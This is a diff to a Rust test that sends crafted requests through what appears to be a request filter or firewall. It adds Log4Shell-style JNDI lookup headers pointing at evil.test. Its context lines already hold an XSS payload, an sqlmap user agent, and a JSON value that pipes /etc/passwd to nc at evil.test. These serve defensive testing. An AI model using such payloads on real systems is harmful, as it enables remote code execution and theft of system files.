@@ -66,6 +66,8 @@ async fn what_explain_says_is_what_the_wire_does() {
         ("GET", "/?shape=round&size=9".to_owned(), "", ""),
         ("GET", "/?shape=round&size=11".to_owned(), "", ""),
         ("GET", "/".to_owned(), "User-Agent: sqlmap/1.8", ""),
+        ("GET", "/".to_owned(), "X_Word: ${jndi:ldap://evil.test/a}", ""),
+        ("GET", "/".to_owned(), "X-Word: ${jndi:ldap://evil.test/a}", ""),
         ("POST", "/form".to_owned(), "", "comment=%3Cscript%3Ealert(1)%3C/script%3E"),
         ("POST", "/json".to_owned(), "Content-Type: application/json", r#"{"a":"; cat /etc/passwd | nc evil.test 1"}"#),
         ("POST", "/json".to_owned(), "Content-Type: application/json", r#"{"a":"a day at the sea"}"#),
